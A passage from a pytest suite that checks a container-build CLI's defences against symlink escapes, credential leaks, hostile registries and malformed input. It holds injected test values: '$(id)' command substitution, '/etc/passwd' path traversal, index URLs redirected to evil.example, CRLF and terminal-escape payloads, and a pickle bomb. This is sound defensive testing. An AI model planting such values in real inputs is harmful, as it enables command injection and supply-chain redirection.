             "resource.RUSAGE_CHILDREN).ru_maxrss))")
    peak_kib = json.loads(subprocess.run(
        [sys.executable, "-c", probe, *CLI, "render", "cpu", "-o", str(tmp_path / "o")],
        cwd=tmp_path, env=env(), capture_output=True, text=True, timeout=300).stdout)
    assert peak_kib < 1 << 20  # it never grew to 1 GiB (it read nothing)


@pytest.mark.parametrize("args", [["render", "cpu", "-o", "{out}"],
                                  ["ci", "--github", "--registry", "ghcr.io/o/t", "-o", "{out}"]],
                         ids=["render", "ci"])
def test_fifo_in_place_of_the_manifest_does_not_hang(tmp_path, args):
    out = tmp_path / "out"
    out.mkdir()
    os.mkfifo(out / ".envbuilder-output")
    p = cli(*[a.replace("{out}", str(out)) for a in args], timeout=120)  # a hang guard
    assert p.returncode in (0, 2) and "Traceback" not in p.stderr, p.stderr


@pytest.mark.parametrize("kind", ["fifo", "device", "folder"])
def test_project_and_lock_files_that_are_not_regular(tmp_path, kind):
    def plant(path: Path) -> None:
        if kind == "fifo":
            os.mkfifo(path)
        elif kind == "device":
            path.symlink_to("/dev/zero")
        else:
            path.mkdir()

    proj = tmp_path / "p"
    proj.mkdir()
    plant(proj / "envbuilder.toml")  # refused, never blocking (a FIFO has no writer here)
    assert_clean_failure(cli("render", "cpu", "-o", str(tmp_path / "o"), cwd=proj, timeout=60),
                         2, "envbuilder.toml")
    out = tmp_path / "o2"
    out.mkdir()
    plant(out / "requirements.lock")
    p = cli("render", "cpu", "-o", str(out), timeout=60)  # not a lock: rendered without one
    assert p.returncode == 0 and "Traceback" not in p.stderr, p.stderr
    assert_clean_failure(cli("lock", "cpu", "-o", str(out), "--check", timeout=60), 2,
                         "requirements.lock")


# -- D. data outside the output folder: no link followed; every target one transaction -------

def test_manifest_entry_through_a_link_never_deletes_outside(tmp_path):
    import hashlib

    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "victim.txt").write_text("precious\n")
    out = tmp_path / "o"
    assert cli("render", "cpu", "-o", str(out)).returncode == 0
    (out / "link").symlink_to(outside)
    man = out / ".envbuilder-output"
    doc = json.loads(man.read_text())
    doc["files"]["link/victim.txt"] = {"group": "render",
                                       "sha256": hashlib.sha256(b"precious\n").hexdigest()}
    man.write_text(json.dumps(doc, indent=2))
    p = cli("render", "cpu", "-o", str(out))
    assert p.returncode == 0, p.stderr
    assert (outside / "victim.txt").read_text() == "precious\n"
    assert "link/victim.txt" not in json.loads(man.read_text())["files"]


def test_a_link_on_the_way_of_a_file_is_refused(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    out = tmp_path / "o"
    out.mkdir()
    (out / "jobs").symlink_to(outside)  # render writes jobs/...: never into `outside`
    p = cli("render", "cpu", "-o", str(out))
    assert_clean_failure(p, 2, "jobs")
    assert list(outside.iterdir()) == []


def test_render_all_refusal_leaves_no_folder(tmp_path):
    out = tmp_path / "a"
    (out / "cu118").mkdir(parents=True)
    (out / "cu118" / "Dockerfile").write_text("mine\n")
    p = cli("render", "--all", "-o", str(out))
    assert_clean_failure(p, 2, "Dockerfile")
    found = sorted(str(x.relative_to(out)) for x in out.rglob("*"))
    assert found == ["cu118", "cu118/Dockerfile"], found


def test_bake_with_a_users_bake_file_writes_nothing(tmp_path):
    out = tmp_path / "b"
    out.mkdir()
    (out / "docker-bake.hcl").write_text("# mine\n")
    p = cli("bake", "-o", str(out))
    assert_clean_failure(p, 2, "docker-bake.hcl")
    assert sorted(x.name for x in out.iterdir()) == ["docker-bake.hcl"]
    assert (out / "docker-bake.hcl").read_text() == "# mine\n"


# -- E. secrets in build files: build arguments without default, redacted everywhere ----------

TOKEN = "s3cr3t-t0ken"


def test_index_credentials_reach_no_rendered_file(tmp_path):
    out = tmp_path / "o"
    p = cli("render", TARGET, "-o", str(out), "--json",
            "--pip-index-url", f"https://user:{TOKEN}@mirror.example/simple",
            "--extra-index-url", "https://plain.example/simple",
            "--extra-index-url", f"https://{TOKEN}@extra.example/simple")
    assert p.returncode == 0, p.stderr
    assert TOKEN not in p.stdout + p.stderr
    for f in out.rglob("*"):
        if f.is_file():
            assert TOKEN.encode() not in f.read_bytes(), f
    df = (out / "Dockerfile").read_text()
    assert "ARG PIP_INDEX_URL\n" in df and "ARG PIP_EXTRA_INDEX_URL_2\n" in df
    assert "https://plain.example/simple" in df  # an index without credentials stays
    assert '"${PIP_EXTRA_INDEX_URL_2}"' in df
    assert "PIP_INDEX_URL:?" in (out / "envbuilder.def").read_text()


def test_credentials_are_redacted_in_errors_and_json(tmp_path):
    bad = f"https://user:{TOKEN}@mirror.example/si mple"  # refused: a space
    for args in (["render", "cpu", "-o", str(tmp_path / "o"), "--pip-index-url", bad],
                 ["render", "cpu", "-o", str(tmp_path / "o"), "--pip-index-url", bad, "--json"]):
        p = cli(*args)
        assert p.returncode == 2
        assert TOKEN not in p.stdout + p.stderr, p.stderr
        assert "https://user:***@mirror.example" in p.stderr


def test_lock_header_holds_no_credentials(tmp_path, uv_cache):
    """uv gets the URL with its credentials (a real run against an unreachable mirror fails
    cleanly); what envbuilder shows and writes has none."""
    pytest.importorskip("uv")
    p = cli("lock", "cpu", "-o", str(tmp_path / "o"), "--pip-index-url",
            f"http://user:{TOKEN}@127.0.0.1:9/simple", UV_CACHE_DIR=str(uv_cache))
    assert p.returncode in (1, 2) and "Traceback" not in p.stderr, p.stderr
    assert TOKEN not in p.stdout + p.stderr


# -- F. exit codes that mean what the README says ----------------------------------------------

@pytest.mark.parametrize("url", ["ftp://x/", "https://x.example/$(id)/simple", "https://x/`id`"])
def test_matrix_verify_refuses_bad_index_urls(url):
    assert_clean_failure(cli("matrix", "verify", "--pypi-index-url", url), 2,
                         "--pypi-index-url")


def test_matrix_verify_unreachable_index_is_1():
    import socket

    s = socket.socket()
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
    s.close()
    p = cli("matrix", "verify", "--pypi-index-url", f"http://127.0.0.1:{port}/simple",
            "--torch-index", f"http://127.0.0.1:{port}/whl/{{variant}}")
    assert p.returncode == 1, p.stderr
    assert f"cannot reach the package index http://127.0.0.1:{port}/simple" in p.stderr


@pytest.mark.parametrize("tag", ["Upper/x:y", "a/B:c", "x:y:z", "a//b:c", "-x"])
def test_build_bad_tag_is_2_before_any_engine(tag):
    p = cli("build", "cpu", "-t", tag, DOCKER_HOST="unix:///nonexistent/docker.sock")
    assert_clean_failure(p, 2, "--tag")


def test_lock_check_through_a_link_is_2(tmp_path):
    out = tmp_path / "o"
    out.mkdir()
    (out / "requirements.lock").symlink_to("/etc/passwd")
    assert_clean_failure(cli("lock", "cpu", "-o", str(out), "--check"), 2, "symbolic link")
    assert_clean_failure(cli("render", "cpu", "-o", str(out)), 2, "symbolic link")


# ==============================================================================================
# Issue 34: the new surfaces (inspect against a hostile registry, output links, init's file,
# diff's reads, titles, read-back shapes, team lines). One section per mechanism; each case
# fails on c7f5d41.
# ==============================================================================================

from hostile_helpers import HostileRegistry, digest, image_docs, inspect_registry  # noqa: E402


def _basic(reg: HostileRegistry, inner):
    """Ask for Basic credentials until the request carries them, then answer with ``inner``."""
    def fn(h) -> None:
        if not h.headers.get("Authorization"):
            reg.send(b"{}", 401, "application/json",
                     {"WWW-Authenticate": 'Basic realm="hostile"'})(h)
        else:
            inner(h)
    return fn


CREDS = {"ENVBUILDER_REGISTRY_USER": "alice", "ENVBUILDER_REGISTRY_PASSWORD": "s3cret-pw"}
SECRET_B64 = "YWxpY2U6czNjcmV0LXB3"  # base64 of alice:s3cret-pw


# -- H1. one HTTP client: credentials bound to their origin, true loopback, http(s) only --------

def test_cross_origin_redirect_gets_no_credentials():
    with HostileRegistry() as a, HostileRegistry() as b:
        d = b.serve_image()
        a.serve_image(docs=d)
        loc = b.url(f"/v2/ml/x/manifests/{digest(d['manifest'])}")
        a.routes["/v2/ml/x/manifests/v1"] = _basic(a, a.send(b"", 307, headers={"Location": loc}))
        p = inspect_registry(f"{a.host}/ml/x:v1", **CREDS)
        assert p.returncode == 0, p.stderr
        assert b.requests, "the redirect was not followed"
        assert b.seen("Authorization") == [] and b.seen(SECRET_B64) == []
        assert json.loads(p.stdout)["provenance"]["manifest_digest"] == digest(d["manifest"])


def test_a_file_realm_is_refused_and_its_token_never_sent(tmp_path):
    secret = tmp_path / "secret.json"
    secret.write_text('{"token": "stolen-local-token"}')
    with HostileRegistry() as a:
        a.serve_image()
        a.routes["/v2/ml/x/manifests/v1"] = a.send(
            b"{}", 401, "application/json",
            {"WWW-Authenticate": f'Bearer realm="file://{secret}#",service="x"'})
        p = inspect_registry(f"{a.host}/ml/x:v1")
        assert_clean_failure(p, 1, "token realm", "not an http(s) URL")
        assert a.seen("stolen-local-token") == []


def test_a_realm_on_another_origin_gets_no_credentials_unless_allowed():
    with HostileRegistry() as a, HostileRegistry() as t:
        a.serve_image()
        tok = a.routes["/v2/ml/x/manifests/v1"]

        def need_token(h) -> None:
            if h.headers.get("Authorization") == "Bearer tok-123":
                tok(h)
            else:
                a.send(b"{}", 401, "application/json",
                       {"WWW-Authenticate": f'Bearer realm="{t.url("/token")}",service="a"'})(h)
        a.routes["/v2/ml/x/manifests/v1"] = need_token
        t.routes["/token"] = t.send(b'{"token": "tok-123"}', ctype="application/json")
        p = inspect_registry(f"{a.host}/ml/x:v1", **CREDS)
        assert_clean_failure(p, 1, "another origin", "ENVBUILDER_REGISTRY_AUTH_ORIGINS")
        assert t.seen(SECRET_B64) == [] and t.requests == []
        p = inspect_registry(f"{a.host}/ml/x:v1", ENVBUILDER_REGISTRY_AUTH_ORIGINS=f"http://{t.host}",
                             **CREDS)
        assert p.returncode == 0, p.stderr
        assert len(t.seen(SECRET_B64)) == 1
        # anonymous: the token service is asked without credentials, wherever it is
        t.requests.clear()
        assert inspect_registry(f"{a.host}/ml/x:v1").returncode == 0
        assert t.requests and t.seen("Authorization") == []


def test_a_name_that_starts_with_127_is_not_loopback():
    """``127.0.0.1.example.com`` is a host name: HTTPS, never plain HTTP with Basic in clear
    (a proxy on 127.0.0.1 sees what would go over the wire)."""
    with HostileRegistry() as proxy:
        def plain(h) -> None:  # a registry behind the proxy asking for Basic
            if h.headers.get("Authorization"):
                proxy.send(b"{}", 404, "application/json")(h)
            else:
                proxy.send(b"{}", 401, "application/json",
                           {"WWW-Authenticate": 'Basic realm="x"'})(h)
        proxy.routes["http://127.0.0.1.example.com:5000/v2/ml/x/manifests/v1"] = plain
        proxy.routes["127.0.0.1.example.com:5000"] = proxy.send(b"", 502)
        url = f"http://{proxy.host}"
        p = cli("inspect", "127.0.0.1.example.com:5000/ml/x:v1", "--from", "registry", "--json",
                http_proxy=url, https_proxy=url, HTTP_PROXY=url, HTTPS_PROXY=url, no_proxy="",
                NO_PROXY="", **CREDS)
        assert_clean_failure(p, 1, "cannot reach the registry 127.0.0.1.example.com:5000")
        assert proxy.seen(SECRET_B64) == []
        assert not [r for r in proxy.requests if r[0] == "GET"]  # only a CONNECT, if anything
    from envbuilder.run.registry import is_loopback, parse_reference

    assert not parse_reference("127.0.0.1.example.com:5000/x:y").local
    assert parse_reference("127.0.0.2:5000/x:y").local and parse_reference("[::1]:5000/x:y").local
    assert not is_loopback("127.example") and is_loopback("localhost") and is_loopback("::1")


# -- H2. content addressing: every manifest and blob hashed against its digest ---------------

def test_a_wrong_digest_child_of_an_index_is_1():
    with HostileRegistry() as a:
        d = a.serve_image(index=True, child=b'{"schemaVersion": 2, "config": {"digest": "x"}}')
        p = inspect_registry(f"{a.host}/ml/x:v1")
        line = assert_clean_failure(p, 1, digest(d["manifest"]))
        assert digest(b'{"schemaVersion": 2, "config": {"digest": "x"}}') in line
        # the same index with its real child: reported as the child's digest, the index's too
        a.serve_image(index=True, docs=d)
        p = inspect_registry(f"{a.host}/ml/x:v1")
        assert p.returncode == 0, p.stderr
        prov = json.loads(p.stdout)["provenance"]
        assert prov["manifest_digest"] == digest(d["manifest"])
        assert prov["index_digest"] == digest(d["index"])


def test_a_by_digest_reference_served_other_bytes_is_1():
    with HostileRegistry() as a:
        d = a.serve_image()
        other = image_docs({**json.loads(image_docs()["config"])["config"]["Labels"],
                            "io.envbuilder.torch": "9.9.9"})
        want = digest(d["manifest"])
        a.routes[f"/v2/ml/x/manifests/{want}"] = a.send(other["manifest"])
        a.routes[f"/v2/ml/x/blobs/{digest(other['config'])}"] = a.send(other["config"])
        p = inspect_registry(f"{a.host}/ml/x@{want}")
        line = assert_clean_failure(p, 1, want, digest(other["manifest"]))
        assert "9.9.9" not in p.stdout and "9.9.9" not in line
        # by tag: the digest the registry reports must be the bytes' digest
        a.routes["/v2/ml/x/manifests/v1"] = a.send(other["manifest"],
                                                   headers={"Docker-Content-Digest": want})
        assert_clean_failure(inspect_registry(f"{a.host}/ml/x:v1"), 1, want)


# -- H3. deadlines and transport failures: one line, exit 1 ----------------------------------

@pytest.mark.parametrize("where", ["body", "headers", "second-request"])
def test_a_dripping_registry_ends_within_its_deadline(where):
    """Headers or body dripped a byte every 0.5 s; "second-request": the index is answered at
    once on a kept-alive connection, then its child drips (each request its own deadline)."""
    with HostileRegistry() as a:
        head = (b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n"
                if where != "headers" else b"HTTP/1.1 200 OK\r\nX-Slow: ")
        route = "/v2/ml/x/manifests/v1"
        if where == "second-request":
            d = a.serve_image(index=True)
            route = f"/v2/ml/x/manifests/{digest(d['manifest'])}"
        a.routes[route] = a.drip(head, every=0.5, most=400)
        # the subprocess timeout is the test's bound: without a deadline it never ends
        p = inspect_registry(f"{a.host}/ml/x:v1", timeout=90, ENVBUILDER_REGISTRY_TIMEOUT="3")
        assert_clean_failure(p, 1, "deadline", "ENVBUILDER_REGISTRY_TIMEOUT")
        assert json.loads(p.stdout)["exit_code"] == 1


def test_the_commands_deadline_spans_its_requests():
    """ENVBUILDER_REGISTRY_DEADLINE bounds all of a command's requests together: each request
    here has 60 s of its own, the command 3 s; the index answers at once, its child drips."""
    import time

    with HostileRegistry() as a:
        d = a.serve_image(index=True)
        a.routes[f"/v2/ml/x/manifests/{digest(d['manifest'])}"] = a.drip(
            b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n",
            every=0.5, most=400)
        t0 = time.monotonic()
        p = inspect_registry(f"{a.host}/ml/x:v1", timeout=90, ENVBUILDER_REGISTRY_TIMEOUT="60",
                             ENVBUILDER_REGISTRY_DEADLINE="3")
        took = time.monotonic() - t0
        assert_clean_failure(p, 1, "the command's deadline", "ENVBUILDER_REGISTRY_DEADLINE")
        assert took < 30, took
    assert_clean_failure(inspect_registry("127.0.0.1:5000/ml/x:v1",
                                          ENVBUILDER_REGISTRY_DEADLINE="-1"), 2,
                         "ENVBUILDER_REGISTRY_DEADLINE")


@pytest.mark.parametrize("answer", [
    b"HELLO THERE\r\n\r\n",  # not a status line
    b"HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nab",  # cut short
    b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\nWWW-Authenticate: Bearer realm=\"http://127.0.0.1:1/t oken\"\r\n\r\n",
    b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\nWWW-Authenticate: Bearer realm=\"http://127.0.0.1:1/t\roken\"\r\n\r\n",
    b"HTTP/1.1 307 Temporary Redirect\r\nContent-Length: 0\r\nLocation: gopher://127.0.0.1/x\r\n\r\n",
    b"HTTP/1.1 307 Temporary Redirect\r\nContent-Length: 0\r\nLocation: http://example.com/x\r\n\r\n",
    b"HTTP/1.1 200 OK\r\nContent-Length: 99999999999\r\n\r\n{}",
], ids=["bad-status-line", "short-body", "realm-space", "realm-cr", "gopher-redirect",
        "plain-http-redirect", "huge-length"])
def test_transport_failures_are_one_line_and_exit_1(answer):
    with HostileRegistry() as a:
        a.routes["/v2/ml/x/manifests/v1"] = a.raw(answer)
        p = inspect_registry(f"{a.host}/ml/x:v1")
        assert_clean_failure(p, 1)
        assert json.loads(p.stdout)["exit_code"] == 1


def test_bad_registry_references_are_2():
    for image in ("127.0.0.1:99999/ml/x:v1", "[zz::1]:5000/ml/x:v1"):
        assert_clean_failure(inspect_registry(image), 2)
    assert_clean_failure(inspect_registry("127.0.0.1:5000/ml/x:v1",
                                          ENVBUILDER_REGISTRY_TIMEOUT="soon"), 2,
                         "ENVBUILDER_REGISTRY_TIMEOUT")


# -- H4. typed reading of what registries answer ---------------------------------------------

def _manifest_with(config_entry) -> bytes:
    return json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
                       "config": config_entry, "layers": []}).encode()


@pytest.mark.parametrize("case", ["manifests-not-list", "entry-not-object", "platform-string",
                                  "entry-digest-path", "config-list", "labels-list",
                                  "label-number", "created-number", "token-number",
                                  "token-crlf", "json-list"])
def test_malformed_registry_json_is_one_line(case):
    with HostileRegistry() as a:
        docs = image_docs()
        route = "/v2/ml/x/manifests/v1"
        if case in ("manifests-not-list", "entry-not-object", "platform-string", "entry-digest-path"):
            entry = {"manifests-not-list": {"manifests": "x"},
                     "entry-not-object": {"manifests": ["x"]},
                     "platform-string": {"manifests": [{"platform": "linux/amd64",
                                                        "digest": digest(docs["manifest"])}]},
                     "entry-digest-path": {"manifests": [{"platform": {"os": "linux",
                                                                       "architecture": "amd64"},
                                                          "digest": "../../../etc/passwd"}]},
                     }[case]
            a.routes[route] = a.send(json.dumps({"schemaVersion": 2, **entry}).encode(),
                                     ctype="application/vnd.oci.image.index.v1+json")
        elif case in ("config-list", "labels-list", "label-number", "created-number"):
            cfg = {"config-list": [1, 2],
                   "labels-list": {"config": {"Labels": ["a"]}},
                   "label-number": {"config": {"Labels": {"io.envbuilder.torch": 2,
                                                          "io.envbuilder.version": "1"}}},
                   "created-number": {"created": 5, "config": {"Labels": {}}}}[case]
            docs = image_docs(config=cfg)
            a.serve_image(docs=docs)
        elif case in ("token-number", "token-crlf"):
            a.serve_image()
            a.routes[route] = a.send(b"{}", 401, "application/json",
                                     {"WWW-Authenticate": f'Bearer realm="{a.url("/t")}"'})
            a.routes["/t"] = a.send(b'{"token": 5}' if case == "token-number"
                                    else b'{"token": "a\\r\\nX-Evil: 1"}', ctype="application/json")
        else:
            a.routes[route] = a.send(b"[1, 2]")
        p = inspect_registry(f"{a.host}/ml/x:v1")
        assert_clean_failure(p, 1, "registry")
        assert not a.seen("etc/passwd")


# -- H6. init's file from data: every value validated, written by a TOML writer ---------------

T4_XML = ROOT / "tests" / "fixtures" / "hosts" / "aws-t4-old-driver" / "nvidia-smi-q-x.xml"


def _fake_smi(tmp_path: Path, xml: str) -> str:
    """PATH with an nvidia-smi that prints ``xml`` for ``-q -x`` (a recorded T4 host's report,
    edited): the real parser reads it."""
    bindir = tmp_path / "bin"
    bindir.mkdir(exist_ok=True)
    (bindir / "report.xml").write_text(xml)
    exe = bindir / "nvidia-smi"
    exe.write_text(f'#!/bin/sh\nif [ "$1" = "-q" ] && [ "$2" = "-x" ]; then cat "{bindir}/report.xml"; '
                   'exit 0; fi\necho "unsupported: $*" >&2\nexit 2\n')
    exe.chmod(0o755)
    return f"{bindir}{os.pathsep}{os.environ['PATH']}"


def test_init_refuses_an_injected_driver_string(tmp_path):
    evil = "515.105.01&#10;extra_index_urls = [&quot;http://evil.example/simple&quot;]"
    xml = T4_XML.read_text().replace("<driver_version>515.105.01</driver_version>",
                                     f"<driver_version>{evil}</driver_version>")
    path = _fake_smi(tmp_path, xml)
    proj = tmp_path / "p"
    proj.mkdir()
    p = cli("init", "--driver", "550.54.15", cwd=proj, PATH=path)
    assert_clean_failure(p, 2, "not a driver version")
    assert list(proj.iterdir()) == []
    # the recorded report itself still works
    _fake_smi(tmp_path, T4_XML.read_text())
    p = cli("init", "--driver", "550.54.15", "--json", cwd=proj, PATH=path)
    assert p.returncode == 0, p.stderr
    text = (proj / "envbuilder.toml").read_text()
    assert "evil" not in text and tomllib.loads(text)["targets"][0]["driver"] == "550.54.15"


@pytest.mark.parametrize("args, needle", [
    (["--name", "a\nextra_index_urls = ['http://evil']"], "--name"),
    (["--name", "x\x1b[31mred"], "--name"),
    (["--name", 'a"b'], "--name"),
    (["--name", ""], "--name"),
    (["--torch", "abc"], "--torch"),
    (["--torch", "2.1\nx = 1"], "--torch"),
    (["--driver", ""], "--driver"),
    (["--driver", "550.54.15\n[evil]"], "--driver"),
    (["--registry", "ghcr.io/acme/ml\nx = 1"], "--registry"),
])
def test_init_odd_values_are_2_with_nothing_written(tmp_path, args, needle):
    argv = ["init", *args]
    if "--driver" not in args:
        argv += ["--driver", "550.54.15"]
    p = cli(*argv, "--gpus-per-node", "4", cwd=tmp_path)
    assert_clean_failure(p, 2, needle)
    assert list(tmp_path.iterdir()) == []


def test_init_empty_driver_without_gpus_per_node_is_2(tmp_path):
    bindir = tmp_path / "bin"  # a host without nvidia-smi
    bindir.mkdir()
    (tmp_path / "p").mkdir()
    p = cli("init", "--driver", "", cwd=tmp_path / "p", PATH=f"{bindir}{os.pathsep}/usr/bin:/bin")
    assert_clean_failure(p, 2, "--driver")
    assert list((tmp_path / "p").iterdir()) == []


def test_init_file_reads_back_as_exactly_its_values(tmp_path):
    from envbuilder.core.naming import project_repository

    p = cli("init", "--driver", "550.54.15", "--gpus-per-node", "4", "--nodes", "2",
            "--registry", "ghcr.io/acme/ml", "--with", "deepspeed", "--name", "big.model_1",
            "--json", cwd=tmp_path)
    assert p.returncode == 0, p.stderr
    d = json.loads(p.stdout)
    got = tomllib.loads((tmp_path / "envbuilder.toml").read_text())
    assert got == {"requirements": "requirements.txt", "registry": "ghcr.io/acme/ml",
                   "repository": project_repository(tmp_path / "envbuilder.toml"),  # the folder's name
                   "layouts": ["2x4"], "targets": [{"name": "big.model_1", "target": d["target"],
                                                    "driver": "550.54.15", "with": ["deepspeed"]}]}
    assert (tmp_path / "requirements.txt").read_text().startswith("# The team's own")


# -- H7. terminal output: every string from input or a registry reaches rich as text ----------

def test_registry_labels_in_titles_are_shown_as_text():
    from hostile_helpers import LABELS

    with HostileRegistry() as a:
        a.serve_image(docs=image_docs({**LABELS, "io.envbuilder.target": "[/]\x1b]0;pwned\x07",
                                       "org.opencontainers.image.version": "[bold red]v[/]"}))
        p = cli("inspect", f"{a.host}/ml/x:v1", "--from", "registry", COLUMNS="250",
                no_proxy="", NO_PROXY="")
        assert p.returncode == 0, p.stderr
        assert "[/]" in p.stdout and "[bold red]v[/]" in p.stdout
        assert "\x1b" not in p.stdout and "\x07" not in p.stdout
        assert "\\x1b]0;pwned\\x07" in p.stdout


def test_diff_arguments_in_titles_are_shown_as_text(tmp_path):
    odd = "[/][red]x\x1b[2J"
    assert cli("render", "cpu", "-o", odd, cwd=tmp_path).returncode == 0
    p = cli("diff", odd, "cu121", COLUMNS="250", cwd=tmp_path)
    assert p.returncode == 0, p.stderr
    assert "[/][red]x" in p.stdout and "\x1b" not in p.stdout and "\\x1b[2J" in p.stdout


# -- H8. diff reads through the capped reader, inside the folder, never through a link --------

@pytest.fixture(scope="module")
def cpu_folder(tmp_path_factory) -> Path:
    out = tmp_path_factory.mktemp("diffcpu") / "x"
    p = cli("render", "cpu", "-o", str(out))
    assert p.returncode == 0, p.stderr
    return out


def _copy_folder(src: Path, dst: Path) -> Path:
    shutil.copytree(src, dst, symlinks=True)
    return dst


def _address_space_limit(gib: float):
    def limit() -> None:
        import resource

        n = int(gib * (1 << 30))
        resource.setrlimit(resource.RLIMIT_AS, (n, n))
    return limit


def test_a_3_gib_dockerfile_under_diff_costs_one_fstat(tmp_path, cpu_folder):
    x = _copy_folder(cpu_folder, tmp_path / "x")
    with open(x / "Dockerfile", "r+b") as f:  # sparse: 3 GiB of size, no disk
        f.truncate(3 << 30)
    p = subprocess.run([*CLI, "diff", str(x), "cpu"], capture_output=True, text=True, timeout=120,
                       env=env(), preexec_fn=_address_space_limit(1.5))
    assert_clean_failure(p, 2, "Dockerfile", "larger than")


def test_a_3_gib_copied_file_under_diff_costs_one_fstat(tmp_path, cpu_folder):
    x = _copy_folder(cpu_folder, tmp_path / "x")
    y = _copy_folder(cpu_folder, tmp_path / "y")
    big = next(p for p in sorted((x / "smoke").iterdir()) if p.is_file())
    with open(big, "r+b") as f:
        f.truncate(3 << 30)
    p = subprocess.run([*CLI, "diff", str(x), str(y), "--json"], capture_output=True, text=True,
                       timeout=120, env=env(), preexec_fn=_address_space_limit(1.5))
    assert p.returncode == 0, p.stderr[-2000:]
    rb = {s["stage"]: s["rebuilds"] for s in json.loads(p.stdout)["rebuild"]}
    assert rb["runtime"] is True and rb["builder"] is False  # the big file counts as changed


def test_diff_containment_is_by_path_not_by_prefix(tmp_path, cpu_folder):
    """``COPY ../x-evil/secret`` in build folder x: x-evil starts with x, but is outside it."""
    x = _copy_folder(cpu_folder, tmp_path / "x")
    y = _copy_folder(cpu_folder, tmp_path / "y")
    (tmp_path / "x-evil").mkdir()
    (tmp_path / "x-evil" / "secret").write_text("secret\n")
    for f in (x, y):
        with open(f / "Dockerfile", "a") as fh:
            fh.write("COPY ../x-evil/secret /s\n")
    p = cli("diff", str(x), str(y), "--json")
    assert p.returncode == 0, p.stderr
    rb = {s["stage"]: s["rebuilds"] for s in json.loads(p.stdout)["rebuild"]}
    assert rb["runtime"] is False  # read on neither side: the same


def test_diff_reads_no_file_of_a_build_folder_through_a_link(tmp_path, cpu_folder):
    x = _copy_folder(cpu_folder, tmp_path / "x")
    y = _copy_folder(cpu_folder, tmp_path / "y")
    (tmp_path / "elsewhere").mkdir()
    target = next(p for p in sorted((x / "smoke").iterdir()) if p.is_file())
    (tmp_path / "elsewhere" / target.name).write_bytes(target.read_bytes())
    target.unlink()
    target.symlink_to(tmp_path / "elsewhere" / target.name)  # same bytes, through a link
    p = cli("diff", str(x), str(y), "--json")
    assert p.returncode == 0, p.stderr
    rb = {s["stage"]: s["rebuilds"] for s in json.loads(p.stdout)["rebuild"]}
    assert rb["runtime"] is True  # not read through the link: missing on that side
    lock = tmp_path / "real.lock"
    lock.write_text("six==1.16.0 \\\n    --hash=sha256:" + "a" * 64 + "\n")
    (x / "requirements.lock").symlink_to(lock)
    assert_clean_failure(cli("diff", str(x), str(y)), 2, "requirements.lock", "symbolic link")


@pytest.mark.parametrize("doc, key", [
    ("[1, 2]", "top level"), ('{"torch": 5}', "torch"), ('{"image": "x"}', "image"),
    ('{"image": {"runtime": 5}}', "image"), ('{"driver_min": [1]}', "driver_min"),
    ('{"deepspeed_ops": "fused_adam"}', "deepspeed_ops"), ("{", "not JSON"),
])
def test_malformed_stack_json_is_one_line(tmp_path, cpu_folder, doc, key):
    x = _copy_folder(cpu_folder, tmp_path / "x")
    (x / "stack.json").write_text(doc)
    assert_clean_failure(cli("diff", str(x), "cpu"), 2, "stack.json", key)


# -- H9. flight-recorder dumps: bounded on what they load to, fields typed --------------------

FR = ROOT / "tests" / "fixtures" / "flight_recorder"


def test_a_small_pickle_that_unpickles_huge_is_refused_unloaded(tmp_path):
    n = 6_000_000  # 6 MB of one-byte EMPTY_DICT opcodes: gigabytes of dicts once loaded
    data = (b"\x80\x04}(\x8c\x07entries](" + b"}" * n + b"e\x8c\tpg_config}u.")
    dump = tmp_path / "nccl_trace_rank_0"
    dump.write_bytes(data)
    p = subprocess.run([*CLI, "explain", str(dump)], capture_output=True, text=True, timeout=300,
                       env=env(), preexec_fn=_address_space_limit(1.5))
    assert_clean_failure(p, 2, "once loaded")


@pytest.mark.parametrize("edit, field", [
    (lambda d: d["entries"][0].update(state=["completed"]), "entries[0].state"),
    (lambda d: d["entries"][0].update(collective_seq_id="1"), "entries[0].collective_seq_id"),
    (lambda d: d["entries"][0].update(process_group="pg"), "entries[0].process_group"),
    (lambda d: next(iter(d["pg_config"].values())).update(ranks=["a", "b"]), "ranks"),
    (lambda d: next(iter(d["pg_config"].values())).update(ranks={"0": 1}), "ranks"),
    (lambda d: d.update(pg_config=[1]), "pg_config"),
])
def test_flight_recorder_fields_of_another_type_are_one_line(tmp_path, edit, field):
    d = json.loads((FR / "fr_rank0.json").read_text())
    edit(d)
    (tmp_path / "fr_rank0.json").write_text(json.dumps(d))
    shutil.copy(FR / "fr_rank1.json", tmp_path / "fr_rank1.json")
    p = cli("explain", str(tmp_path / "fr_rank0.json"), str(tmp_path / "fr_rank1.json"))
    assert_clean_failure(p, 2, "fr_rank0.json", field)


# -- H10. team lines through pip's own grammar -------------------------------------------------

def _pip_refuses(tmp_path: Path, line: str) -> bool:
    """Whether the real pip's requirements-file reader refuses ``line`` (a parse error, not a
    missing distribution: nothing is downloaded, no index is asked)."""
    f = tmp_path / "pip-oracle.txt"
    f.write_text(line + "\n")
    p = subprocess.run([sys.executable, "-m", "pip", "download", "--no-index", "--no-deps",
                        "--no-cache-dir", "-d", str(tmp_path / "dl"), "-r", str(f)],
                       capture_output=True, text=True, timeout=120)
    out = p.stdout + p.stderr
    return "Invalid requirement" in out or "InvalidMarker" in out or "no such option" in out


@pytest.mark.parametrize("line, why", [
    ('six; python_version == " --hash=sha256:abc"', "as an option"),
    ('six; python_version == "3 -i http://evil.example/simple"', "as an option"),
    ('six; python_version == "3 #x"', ""),
])
def test_team_lines_pip_would_refuse_are_refused_naming_the_line(tmp_path, line, why):
    assert _pip_refuses(tmp_path, line)  # the oracle: pip itself
    req = tmp_path / "team.txt"
    req.write_text("numpy\n" + line + "\n")
    p = cli("render", "cpu", "-o", str(tmp_path / "o"), "--requirements", str(req))
    assert_clean_failure(p, 2, "team.txt:2", why)
    assert not (tmp_path / "o").exists()


def test_team_lines_pip_accepts_are_accepted(tmp_path):
    line = "six==1.16.0\t# pinned for the loader"
    assert not _pip_refuses(tmp_path, line)
    req = tmp_path / "team.txt"
    req.write_text(line + "\n")
